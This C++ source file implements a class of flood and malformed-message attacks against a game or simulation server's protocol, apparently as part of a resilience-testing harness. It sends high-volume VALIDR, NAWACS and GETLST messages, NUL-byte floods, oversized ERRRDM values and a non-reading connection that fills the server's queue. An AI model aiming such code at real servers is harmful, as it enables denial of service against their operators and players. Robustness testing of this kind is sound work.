#include "FloodAttack.h"

#include "AttackBatches.h"

#include <algorithm>
#include <charconv>

namespace {
// A peer that does not read keeps little in its socket, so the server's own queue fills.
constexpr int kNonReaderBuffer = 4096;
// Big enough for any batch: each batch goes to the system in one write.
constexpr size_t kWholeBatch = 64u << 20;
constexpr std::string_view kName = "Hostile";
} // namespace

FloodAttack::Plan FloodAttack::planFor(Kind kind) {
    switch (kind) {
    case Kind::SimNew:
        return {Port::Sim, 0.1, 0, true, false};
    case Kind::Validr:
        return {Port::Player, 5, 0, false, true};
    case Kind::ErrGet:
        return {Port::Player, 1, 0, false, false};
    case Kind::Nuls:
        return {Port::Player, 1, 0, false, true};
    case Kind::Nawacs:
        return {Port::Awacs, 1, 1, false, false};
    case Kind::GetlstNoRead:
        return {Port::Player, 0.1, 0, false, false};
    case Kind::AiSpyNul:
        break;
    }
    return {Port::Ai, 0.2, 0, true, false};
}

FloodAttack::FloodAttack(Context& ctx, Kind kind)
    : ctx_(ctx), kind_(kind), plan_(planFor(kind)),
      conn_(ctx.loop, Conn::Callbacks{[this] { onConnected(); }, [this](std::string_view m) { onMessage(m); },
                                      [this] {
                                          if (ctx_.sending()) ++figures_.closedByServer;
                                      },
                                      nullptr}) {
    if (kind_ == Kind::AiSpyNul) plan_.periodS /= std::max(1.0, ctx_.opt.attackRate);
}

int FloodAttack::scaled(double n) const {
    return std::max(1, int(n * ctx_.opt.attackRate));
}

void FloodAttack::open() {
    ++figures_.connections;
    figures_.peakOpen = 1;
    conn_.setWriteChunk(kWholeBatch);
    // errget reads until it knows its own position, then stops.
    const bool readsAtFirst = plan_.reads || kind_ == Kind::ErrGet;
    conn_.setSource(ctx_.attackSource);
    if (!conn_.open(ctx_.address(plan_.port), readsAtFirst ? 0 : kNonReaderBuffer)) ++figures_.closedByServer;
}

// errget registers before the honest players join, so that its position is 1 and stays so.
void FloodAttack::prepare() {
    if (kind_ == Kind::ErrGet) open();
}

void FloodAttack::start() {
    started_ = true;
    if (kind_ != Kind::ErrGet) open();
    beginBatches();
}

// The first batch leaves as soon as the attack has started and the connection is ready.
void FloodAttack::beginBatches() {
    if (!started_ || !ready_ || ticking_) return;
    ticking_ = true;
    tick();
}

void FloodAttack::onConnected() {
    if (kind_ == Kind::ErrGet) {
        std::string m = "VALIDR" + std::string(kName);
        m.push_back('\0');
        conn_.send(m);
        figures_.bytes += m.size();
        ++figures_.messages;
        return;
    }
    if (!plan_.reads) conn_.setReading(false);
    ready_ = true;
    beginBatches();
}

void FloodAttack::onMessage(std::string_view m) {
    if (kind_ != Kind::ErrGet || ready_ || m.substr(0, 6) != "PLSNEW") return;
    // PLSNEW position@name@setup@mark: the attacker's own tells its position.
    std::string_view data = m.substr(6);
    const size_t at = data.find('@');
    if (at == std::string_view::npos || data.substr(at + 1, kName.size() + 1) != std::string(kName) + "@")
        return;
    std::from_chars(data.data(), data.data() + at, position_);
    const std::string redim = attackbatch::repeated("ERRRDM", "32767", 1);
    conn_.send(redim);
    figures_.bytes += redim.size();
    ++figures_.messages;
    conn_.setReading(false);
    ready_ = true;
    beginBatches();
}

void FloodAttack::tick() {
    if (!ctx_.sending()) return;
    if (conn_.isOpen() && (plan_.maxWrites == 0 || figures_.writes < uint64_t(plan_.maxWrites))) {
        if (conn_.queuedBytes() > 0) {
            ++figures_.heldBack;
        } else {
            uint64_t messages = 0;
            const std::string bytes = batch(messages);
            conn_.send(bytes);
            ++figures_.writes;
            figures_.bytes += bytes.size();
            figures_.messages += messages;
        }
    }
    ctx_.loop.after(ctx_.seconds(plan_.periodS), [this] { tick(); });
}

std::string FloodAttack::batch(uint64_t& messages) {
    switch (kind_) {
    case Kind::SimNew:
        messages = uint64_t(scaled(25));
        return attackbatch::simnew(int(messages));
    case Kind::Validr:
        messages = uint64_t(scaled(30000));
        validrSent_ += messages;
        return attackbatch::validr(int(messages), validrSent_ - messages);
    case Kind::ErrGet:
        messages = uint64_t(scaled(100));
        return attackbatch::repeated("ERRGET", std::to_string(position_), int(messages));
    case Kind::Nuls:
        messages = uint64_t(scaled(1 << 20));
        return std::string(size_t(messages), '\0');
    case Kind::Nawacs:
        messages = uint64_t(scaled(100000));
        return attackbatch::repeated("NAWACS", "", int(messages));
    case Kind::GetlstNoRead:
        messages = uint64_t(scaled(50));
        return attackbatch::repeated("GETLST", "", int(messages));
    case Kind::AiSpyNul:
        break;
    }
    messages = 1;
    std::string m = "AIUPDT" + attackbatch::aiUpdateWithNul(ctx_.opt.aiAircraft);
    m.push_back('\0');
    return m;
}

void FloodAttack::endTraffic() {
    if (plan_.leavesAtEnd) conn_.close();
}
